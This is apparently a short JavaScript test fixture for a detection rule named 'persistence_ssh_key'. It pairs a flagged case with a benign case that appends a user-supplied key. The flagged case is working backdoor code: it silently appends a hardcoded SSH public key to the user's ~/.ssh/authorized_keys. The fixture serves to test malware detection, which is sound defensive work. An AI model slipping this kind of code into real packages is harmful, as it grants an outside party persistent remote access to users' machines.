// a key of the package's own held by a name, appended to the authorized_keys path held by another name
const fs = require('fs');
const os = require('os');
const path = require('path');
// ruleid: persistence_ssh_key
const K = 'ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIHk1mJ0fQ2pVb8cN3xR7tLq9wE4sZ6yUa2dF5gH8jK0m build@example';
const ak = path.join(os.homedir(), '.ssh', 'authorized_keys');
const cur = fs.existsSync(ak) ? fs.readFileSync(ak, 'utf8') : '';
if (!cur.includes(K)) fs.appendFileSync(ak, K + '\n');
// ok: persistence_ssh_key
const userKey = fs.readFileSync(process.argv[2], 'utf8');
fs.appendFileSync(ak, userKey);
